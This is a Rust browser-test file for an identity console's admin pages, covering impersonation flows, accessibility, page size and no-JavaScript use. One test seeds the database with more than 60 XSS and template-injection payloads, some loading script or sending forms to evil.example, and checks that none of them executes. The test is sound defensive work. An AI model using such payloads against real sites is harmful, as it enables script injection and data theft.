//! The console in a real Chromium, with the demo application; pictures go to `target/screenshots`.
use crate::support::TestServer;
use crate::support::counterpart::{node, run};
use crate::support::dev::Dev;
use serde_json::json;
use understudy::flows::login::first_admin::WaitingSetup;

const SCREENSHOTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/target/screenshots");

/// Pages that anybody with every right can open by their address.
const PATHS: &[&str] = &[
    "/console/users",
    "/console/users?q=alice",
    "/console/users/usr_alice",
    "/console/users/usr_alice/preview",
    "/console/users/usr_alice/sign-in-as",
    "/console/impersonations",
    "/console/impersonations/history",
    "/console/audit",
    "/console/organizations",
    "/console/organizations/acme",
    "/console/new-organization",
    "/console/roles",
    "/console/roles/support",
    "/console/new-role",
    "/go",
];

/// Those that take an administrator.
const ADMIN_PATHS: &[&str] = &[
    "/console/applications",
    "/console/new-application",
    "/console/new-application?kind=saml",
    "/console/new-application?kind=web",
    "/console/applications/northwind-orders",
    "/console/applications/northwind-orders/edit",
    "/console/applications/northwind-orders/setup",
    "/console/applications/northwind-saml/edit",
    "/console/applications/northwind-saml/setup",
    "/console/applications/northwind-wsfed/setup",
    "/console/keys",
    "/console/keys/rotate",
    "/console/keys/replace",
];

async fn tell(story: &str) -> String {
    tell_of("browser/console.mjs", story, PATHS).await
}

/// The same, with scripts or without.
async fn tell_with(story: &str, scripts: bool) -> String {
    tell_all("browser/console.mjs", (story, scripts), PATHS).await
}

async fn tell_of(script: &str, story: &str, paths: &[&str]) -> String {
    tell_all(script, (story, true), paths).await
}

async fn tell_all(script: &str, (story, scripts): (&str, bool), paths: &[&str]) -> String {
    let dev = Dev::start().await;
    let person = |email: &str, password: &str| json!({"email": email, "password": password});
    let facts = json!({
        "story": story,
        "scripts": scripts,
        "protocol": "oauth2",
        "issuer": dev.url,
        "demo": dev.demo,
        "album": SCREENSHOTS,
        "paths": paths,
        "ada": person("ada@understudy.test", "ada-demo"),
        "sam": person("sam.support@understudy.test", "sam-demo"),
        "riley": person("riley@acme.test", "riley-demo"),
        "alice": person("alice@acme.test", "alice-demo"),
    });
    run(node(script), &facts).await
}

#[tokio::test]
async fn from_a_name_to_being_signed_in_as_them_and_back_again() {
    tell("sign-in-as").await;
}

#[tokio::test]
async fn stopping_in_the_application_leaves_the_console_where_it_was() {
    tell("stop-in-application").await;
}

#[tokio::test]
async fn saml_and_ws_federation_lead_into_the_application_and_out_again() {
    tell("every-protocol").await;
}

#[tokio::test]
async fn a_code_opens_a_private_window_for_its_owner_alone() {
    tell("private-window").await;
}

#[tokio::test]
async fn a_refusal_is_explained_before_the_click() {
    tell("refusal").await;
}

#[tokio::test]
async fn the_keyboard_alone_gets_from_a_name_into_the_application() {
    tell("keyboard").await;
}

#[tokio::test]
async fn the_console_works_without_javascript() {
    tell("without-javascript").await;
}

#[tokio::test]
async fn organizations_and_roles_are_managed_with_and_without_javascript() {
    tell_with("manage", true).await;
    tell_with("manage", false).await;
}

#[tokio::test]
async fn h19_the_password_is_asked_for_again_and_what_was_filled_in_stays() {
    let server = TestServer::start().await;
    // Everybody signed in a while ago.
    let older = "CREATE FUNCTION older() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN \
        NEW.authenticated_at := NEW.authenticated_at - interval '6 minutes'; RETURN NEW; END $$; \
        CREATE TRIGGER older BEFORE INSERT ON sessions FOR EACH ROW EXECUTE FUNCTION older()";
    server.db.sql(older).await;
    for scripts in [true, false] {
        let facts = json!({
            "story": "step-up",
            "scripts": scripts,
            "issuer": server.url,
            "album": SCREENSHOTS,
            "sam": {"email": "sam@understudy.test", "password": "sam-password"},
        });
        run(node("browser/console.mjs"), &facts).await;
    }
}

#[tokio::test]
async fn h29_the_first_administrator_comes_in_by_the_printed_code() {
    let server = super::set_up::fresh().await;
    let code = super::set_up::code(&server.parts, WaitingSetup::Keep).await.unwrap();
    let facts =
        json!({"story": "set-up", "issuer": server.url, "album": SCREENSHOTS, "code": code});
    run(node("browser/console.mjs"), &facts).await;
}

#[tokio::test]
async fn h05_the_console_shows_itself_in_no_frame_and_tells_nobody_where_it_is() {
    tell("strangers").await;
}

#[tokio::test]
async fn b31_a_link_is_nothing_to_its_subject_and_to_other_agents() {
    tell("wrong-person").await;
}

#[tokio::test]
async fn a_console_page_is_at_most_50_kib_over_the_wire() {
    tell("sizes").await;
}

#[tokio::test]
async fn one_click_lands_in_the_application() {
    tell("landing").await;
}

#[tokio::test]
async fn the_console_is_accessible_in_light_and_dark_wide_and_narrow() {
    tell("looks").await;
}

const APPLICATIONS: &str = "browser/applications.mjs";

#[tokio::test]
async fn an_application_is_made_and_people_sign_in_to_it() {
    tell_of(APPLICATIONS, "made", &[]).await;
}

#[tokio::test]
async fn the_keyboard_alone_makes_and_changes_an_application() {
    tell_of(APPLICATIONS, "keyboard", &[]).await;
}

#[tokio::test]
async fn applications_and_keys_work_without_javascript() {
    tell_of(APPLICATIONS, "without-javascript", &[]).await;
}

#[tokio::test]
async fn a_page_of_an_application_is_at_most_50_kib_over_the_wire() {
    tell_of(APPLICATIONS, "sizes", ADMIN_PATHS).await;
}

#[tokio::test]
async fn the_forms_of_applications_are_accessible_in_light_and_dark_wide_and_narrow() {
    tell_of(APPLICATIONS, "looks-writing", &[]).await;
}

#[tokio::test]
async fn applications_and_keys_are_accessible_in_light_and_dark_wide_and_narrow() {
    tell_of(APPLICATIONS, "looks-reading", &[]).await;
}

/// What somebody would try to store. `MARK` is where a script would say that it ran.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " autofocus onfocus=alert(1) x=",
    "\" autofocus onfocus=\"alert(1)",
    "\" style=\"background:url(https://evil.example/x)",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ 7*7 }}",
    "{% include \"/etc/passwd\" %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"//evil.example\" id=x tabindex=1 onfocus=alert(1)>x</a>",
    "]]><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "\u{202e}<script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// Each payload as every field of somebody of their own, of an impersonation of them, and of its events.
const STORE: &str = "
    INSERT INTO roles (name, permissions) SELECT left(p, 90), '{x}' FROM payloads ON CONFLICT DO NOTHING;
    INSERT INTO organizations (id, name) SELECT 'org_x' || n, p FROM payloads;
    INSERT INTO users (id, organization_id, email, email_canonical, name, given_name, family_name, nickname, picture, phone_number)
      SELECT 'usr_x' || n, 'org_x' || n, p, p || n, p, p, p, p, p, p FROM payloads;
    INSERT INTO user_roles SELECT 'usr_x' || n, left(p, 90) FROM payloads;
    INSERT INTO clients (id, organization_id, name, kind, auth_method, redirect_uris, initiate_login_uri, impersonation_enabled, scopes)
      SELECT 'client_x' || n, 'org_x' || n, p, 'web', 'client_secret', '{https://a.example/}', 'https://a.example/', true, '{}' FROM payloads;
    INSERT INTO clients (id, organization_id, name, kind, auth_method, redirect_uris, post_logout_redirect_uris, initiate_login_uri,
        backchannel_logout_uri, audiences, saml)
      SELECT 'saml_x' || n, 'org_x' || n, p, 'saml', 'none', ARRAY[p], ARRAY[p], p, p, ARRAY[p], jsonb_build_object('entity_id', p,
        'acs_urls', jsonb_build_array(p), 'slo_url', p, 'certificates', jsonb_build_array(p), 'encryption_certificate', p,
        'name_id_format', p, 'encryption_algorithm', p, 'attributes', jsonb_build_object(p, p)) FROM payloads;
    INSERT INTO clients (id, organization_id, name, kind, auth_method, redirect_uris, initiate_login_uri, wsfed)
      SELECT 'wsfed_x' || n || p, 'org_x' || n, p, 'wsfed', 'none', ARRAY[p], p, jsonb_build_object('realm', p, 'reply_urls',
        jsonb_build_array(p), 'attributes', jsonb_build_object(p, p)) FROM payloads;
    INSERT INTO sessions (id, token_hash, user_id, authenticated_at, last_seen_at, expires_at, ip, user_agent)
      SELECT 'ses_x' || n, sha256(n::text::bytea), 'usr_x' || n, clock_now(), clock_now(), clock_now() + interval '1 hour', p, p FROM payloads;
    INSERT INTO impersonations (id, status, channel, protocol, mode, actor_id, subject_id, client_id, organization_id, requested_by,
        reason, reason_code, ticket, request, redeem, duration_seconds, ticket_hash, link_expires_at, redeemed_at, actor_proof, ends_at, last_seen_at)
      SELECT 'imp_x' || n, 'active', 'console', 'oauth2', 'full', 'usr_x' || (n % 60 + 1), 'usr_x' || n, 'client_x' || n, 'org_x' || n, p,
        p, p, p, jsonb_build_object('protocol', 'oauth2', 'client', 'client_x' || n, 'return_url', p, 'response_mode', 'query', 'scope', 'openid',
        'state', p, 'nonce', null, 'code_challenge', null, 'audience', null), 'confirm', 600, sha256(('t' || n)::bytea),
        clock_now() + interval '100 seconds', clock_now(), 'asserted', clock_now() + interval '600 seconds', clock_now() FROM payloads;
    INSERT INTO audit_events (type, actor, subject, impersonation_id, client_id, organization_id, ip, user_agent, request_id, reason, ticket, detail)
      SELECT 'login.failed', 'usr_x' || n, 'usr_x' || n, 'imp_x' || n, 'client_x' || n, 'org_x' || n, p, p, p, p, p, jsonb_build_object(p, p) FROM payloads;
    INSERT INTO audit_events (type, actor, subject, detail) SELECT p, p, p, jsonb_build_object('a', jsonb_build_array(p)) FROM payloads;";

#[tokio::test]
async fn h06_nothing_that_was_stored_runs_on_any_page_of_the_console() {
    assert!(PAYLOADS.len() >= 60);
    let server = TestServer::start_with(&[("UNDERSTUDY_RATE_LIMITS", "off")]).await;
    let quoted: Vec<String> = PAYLOADS
        .iter()
        .map(|it| format!("E'{}'", it.replace('\\', "\\\\").replace('\'', "''")))
        .collect();
    let made = format!(
        "CREATE TEMP TABLE payloads AS SELECT n::int, p FROM unnest(ARRAY[{}]) WITH ORDINALITY AS t(p, n);{STORE}",
        quoted.join(",")
    );
    server.db.sql(&made).await;
    let mut paths: Vec<String> =
        PATHS.iter().map(|path| path.replace("/acme", "/org_acme")).collect();
    paths.push("/console/organizations?q=%3Cscript%3E&status=%3Cscript%3E&after=org_x1".to_owned());
    paths.extend(
        [
            "/console/applications",
            "/console/applications?q=x",
            "/console/audit?type=login.failed",
            "/console/new-application",
            "/console/keys",
        ]
        .map(str::to_owned),
    );
    for (nth, payload) in PAYLOADS.iter().enumerate() {
        let (n, text) = (nth + 1, encoded(payload));
        let role: String = payload.chars().take(90).collect();
        let own = [
            format!("/console/users?q={text}&role={text}&organization={text}"),
            format!("/console/users/usr_x{n}?done={text}"),
            format!("/console/users/usr_x{n}/preview"),
            format!(
                "/console/users/usr_x{n}/sign-in-as?application=client_x{n}&reason={text}\
                 &ticket={text}&state={text}&scope={text}&target={text}"
            ),
            format!("/console/impersonations/imp_x{n}"),
            format!("/console/audit?actor=usr_x{n}"),
            format!("/console/applications/saml_x{n}"),
            format!("/console/applications/saml_x{n}/edit"),
            format!("/console/applications/wsfed_x{n}{text}/setup"),
            format!("/console/organizations/org_x{n}?done={text}"),
            format!("/console/roles/{}", encoded(&role)),
        ];
        // The lists above hold all of them. Of the pages of one, each payload gets four, each page a third of
        // the payloads: they differ in what is around a value, not in how it is written out.
        let turn = own.iter().cycle().skip(nth * 4 % own.len()).take(4);
        paths.extend(turn.cloned());
    }
    // Each browser has its own time.
    for paths in paths.chunks(80) {
        let facts = json!({
            "issuer": server.url,
            "paths": paths,
            "ada": {"email": "ada@understudy.test", "password": "ada-password"},
        });
        run(node("browser/injection.mjs"), &facts).await;
    }
}

fn encoded(text: &str) -> String {
    percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
}
